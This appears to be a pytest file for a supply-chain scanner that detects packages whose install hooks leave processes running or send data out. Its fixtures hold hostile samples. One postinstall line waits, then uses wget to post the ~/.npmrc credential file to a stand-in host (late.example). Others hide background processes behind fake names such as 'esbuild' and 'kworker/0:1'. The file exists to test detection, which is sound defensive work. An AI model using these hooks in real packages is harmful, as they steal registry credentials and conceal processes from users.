"""What of a package still runs when its scan ends is told; what it sends until then is still seen."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from package_hunter.simulations.pack import pack
from tests.support import requires
from tests.support.hunter import project_with, scan_json

# more than the latest of these needs; hurried time has a test of its own (test_time.py)
_SHORT = ("--settle", "8", "--no-hurry")
_TITLED = """
const quiet = {detached: true, stdio: 'ignore'};
require('child_process').spawn(process.execPath,
  ['-e', "process.title = 'esbuild --service=0.21.5 --ping'; setInterval(() => {}, 1000)"], quiet).unref();
"""
_FORGETS = """
require('http').request({host: 'forget.example', method: 'POST', path: '/x'}, () => {}).end('hello');
"""
_LATE = "(sleep 2; wget -q -O /dev/null --post-file ~/.npmrc http://late.example/) >/dev/null 2>&1 & exit 0"
_HELPER = (
    "printf 'protocol=https\\nhost=a.example\\nusername=u\\npassword=p\\n\\n'"
    " | git -c credential.helper=cache credential approve"
)
_SETUP = """
import os, sys, time
from setuptools import setup
if "bdist_wheel" in sys.argv and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in range(3):
            os.dup2(null, fd)
        os.closerange(3, 1024)
        os.execv("/usr/bin/python3", ["kworker/0:1", "-c", "import time; time.sleep(600)"])
    os._exit(0)
setup(name="staysaround", version="1.0.0")
"""


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()
    requires.needs_btf()


def left(report: dict[str, Any]) -> dict[str | None, dict[str, Any]]:
    found = [f for f in report["findings"] if f["kind"] == "left_running"]
    return {f["blame"]["package"]: f for f in found}


def test_who_left_what_is_told_and_late_theft_is_seen(tmp_path: Path) -> None:
    project = project_with(
        tmp_path / "p",
        quiet={},
        stays={"postinstall": "node s.js"},
        forgets={"postinstall": "node s.js"},
        helped={"postinstall": _HELPER},
        late={"postinstall": _LATE},
    )
    (project / "deps/stays/s.js").write_text(_TITLED)
    (project / "deps/forgets/s.js").write_text(_FORGETS)
    report = scan_json(project, *_SHORT, codes=(1,))
    found = left(report)
    assert set(found) == {"pkg:npm/stays@1.0.0", "pkg:npm/helped@1.0.0"}
    stays = found["pkg:npm/stays@1.0.0"]
    assert stays["severity"] == "medium" and stays["blame"]["confidence"] == "certain"
    assert stays["evidence"][0]["data"]["cmdline"].startswith("node -e process.title")
    assert stays["evidence"][0]["data"]["shown_as"] == "esbuild --service=0.21.5 --ping"
    assert found["pkg:npm/helped@1.0.0"]["severity"] == "info"
    sent = [f for f in report["findings"] if f["kind"] == "exfiltration"]
    assert [f["blame"]["package"] for f in sent] == ["pkg:npm/late@1.0.0"]
    assert "http://forget.example/x" in [r["url"] for r in report["network"]["requests"]]


def test_a_python_packages_daemon_is_told(tmp_path: Path) -> None:
    package = tmp_path / "src" / "staysaround"
    package.mkdir(parents=True)
    (package / "setup.py").write_text(_SETUP)
    (package / "staysaround.py").write_text("")
    (package / "pyproject.toml").write_text(
        '[project]\nname = "staysaround"\nversion = "1.0.0"\n'
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    )
    report = scan_json(pack(tmp_path / "src", "pip", tmp_path), *_SHORT, codes=(0, 4))
    (found,) = left(report).values()
    assert "import time; time.sleep(600)" in found["evidence"][0]["data"]["cmdline"]
    assert report["verdict"] == "suspicious", report["coverage"]["reasons"]


@pytest.mark.parametrize(
    ("case", "kinds"), [("k5-left", {"left_running"}), ("w1-forget", {"outbound_connection"})]
)
def test_given_cases(case: str, kinds: set[str]) -> None:
    report = scan_json(requires.needs_shared(f"cases/behaviour/{case}"), *_SHORT)
    assert report["verdict"] == "suspicious"
    assert {f["kind"] for f in report["findings"] if f["severity"] != "info"} == kinds
    assert {phase["status"] for phase in report["coverage"]["phases"]} == {"ok"}
